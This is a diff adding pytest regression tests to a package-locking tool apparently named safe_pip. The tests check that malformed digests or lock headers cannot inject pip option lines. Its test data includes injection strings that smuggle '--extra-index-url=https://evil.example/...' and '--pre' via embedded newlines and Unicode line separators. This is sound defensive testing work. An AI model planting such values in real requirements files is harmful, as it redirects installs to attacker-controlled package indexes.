@@ -6,7 +6,7 @@ import pytest
 from packaging.utils import NormalizedName, canonicalize_name
 from packaging.version import Version
 
-from safe_pip.errors import UsageError
+from safe_pip.errors import SourceError, UsageError
 from safe_pip.lockfile import check_lockable, locked_projects, render_requirements
 from safe_pip.models import (
     DistKind,
@@ -108,6 +108,58 @@ class TestRenderRequirements:
         (line,) = parse_files([str(path)], []).lines
         assert line.text == "beta==1.1"
         assert line.hashes == (f"sha256:{'a' * 64}", f"sha256:{'b' * 64}")
+
+
+class TestNothingStartsALineOfItsOwn:
+    """A hostile index lists the digests; whoever runs the lock writes the command in its
+    header: neither may add an option line to a file pip reads (issue 13, hole 5)."""
+
+    def _listed(self, digest: str) -> IndexFile:
+        file = _file("beta", "1.1", "py311-none-any", "b")
+        return IndexFile(file.filename, file.url, file.project, file.version, file.kind, digest)
+
+    @pytest.mark.parametrize(
+        "digest",
+        [
+            "b" * 64 + "\n--extra-index-url=https://evil.example/simple/",
+            "b" * 63 + "\u2028",
+            "b" * 32,
+            "z" * 64,
+        ],
+    )
+    def test_a_malformed_digest_of_another_file_is_left_out(
+        self, tmp_path: Path, digest: str
+    ) -> None:
+        chosen = _file("beta", "1.1", "py3-none-any", "a")
+        served = {canonicalize_name("beta"): _served("beta", chosen, self._listed(digest))}
+        (project,) = locked_projects(Plan((_planned(chosen),)), served)
+        assert project.sha256s == ("a" * 64,)
+        path = tmp_path / "lock.txt"
+        path.write_text(render_requirements((project,), ["x"]))
+        parsed = parse_files([str(path)], [], environ={})
+        assert [line.hashes for line in parsed.lines] == [(f"sha256:{'a' * 64}",)]
+        assert parsed.options == type(parsed.options)()
+
+    def test_a_malformed_digest_of_the_chosen_file_fails_the_lock(self) -> None:
+        chosen = self._listed("b" * 64 + "\n--pre")
+        served = {canonicalize_name("beta"): _served("beta", chosen)}
+        with pytest.raises(SourceError, match=r"beta: corp lists beta-1\.1-py311-none-any\.whl"):
+            locked_projects(Plan((_planned(chosen),)), served)
+
+    def test_line_breaks_in_the_header_are_escaped(self, tmp_path: Path) -> None:
+        a = _file("beta", "1.1", "py3-none-any", "a")
+        (project,) = locked_projects(
+            Plan((_planned(a),)), {canonicalize_name("beta"): _served("beta", a)}
+        )
+        header = ["safe-pip lock 'x\n--extra-index-url=https://evil.example/\x85--pre\x00'"]
+        text = render_requirements((project,), header)
+        assert "# safe-pip lock 'x\\u000a--extra-index-url=https://evil.example/\\u0085" in text
+        assert len(text.splitlines()) == len(text.split("\n")) - 1
+        path = tmp_path / "lock.txt"
+        path.write_text(text)
+        parsed = parse_files([str(path)], [], environ={})
+        assert [line.text for line in parsed.lines] == ["beta==1.1"]
+        assert parsed.options == type(parsed.options)()
 
 
 class TestPylockInput:
